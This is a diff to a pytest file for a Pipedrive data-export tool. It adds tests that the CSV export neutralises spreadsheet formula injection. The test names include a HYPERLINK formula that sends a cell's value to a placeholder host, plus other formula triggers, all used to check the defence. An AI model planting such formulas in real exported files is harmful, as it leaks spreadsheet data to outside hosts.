@@ -5,11 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import subprocess
 import sys
+from collections.abc import Callable
 from pathlib import Path
 
 import duckdb
+import httpx
 import pytest
 
 from pipedrive_orchestration.demo import DemoServer
@@ -69,6 +72,43 @@ def test_csv_holds_every_current_row_and_nested_values_as_json(imported: Project
     emails = [json.loads(row["emails"]) for row in rows if row["emails"]]
     assert all("@" in one[0]["value"] for one in emails if one)
     assert any(emails)
+
+
+def test_a_spreadsheet_sees_texts_and_times_and_no_formulas(
+    project: Project, fresh_demo: Callable[..., DemoServer]
+) -> None:
+    """The names are those that make a formula of a cell in LibreOffice, Excel or Google Sheets."""
+    names = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-1+1", "@SUM(1)", "\t=1", "＝1+1", "Zoë = ok", "O'Neil"]
+    server = fresh_demo()
+    with httpx.Client(base_url=server.url, headers={"x-api-token": server.token}) as client:
+        for name in names:
+            client.post("/api/v2/persons", json={"name": name}).raise_for_status()
+    project.write("all_persons", BODY)
+    project.connect_to(server)
+    project.bring("all_persons", server)
+    output = project.folder / "persons.csv"
+    ended = project.run(
+        "data", "all_persons", "--format", "csv", "--for-spreadsheets", "--output", str(output)
+    )
+    assert ended.code == 0
+    content = output.read_bytes()
+    assert content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    assert {row["name"] for row in rows} >= {"Zoë = ok", "O'Neil", *(f"'{name}" for name in names[:6])}
+    times = [row["update_time"] for row in rows if row["update_time"]]
+    assert len(times) >= len(names)
+    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", time) for time in times)
+    printed = project.run("data", "all_persons", "--format", "csv", "--for-spreadsheets")
+    assert sorted(printed.out.encode().splitlines()) == sorted(content.splitlines())
+    exact = list(csv.DictReader(io.StringIO(project.run("data", "all_persons", "--format", "csv").out)))
+    assert {row["name"] for row in exact} >= set(names)
+
+
+@pytest.mark.parametrize("format_", ["json", "parquet", "table"])
+def test_only_csv_is_for_spreadsheets(imported: Project, format_: str) -> None:
+    ended = imported.run("data", "all_persons", "--format", format_, "--for-spreadsheets")
+    assert ended.code == 2
+    assert "--format csv" in ended.err
 
 
 def test_json_is_one_array(imported: Project) -> None:
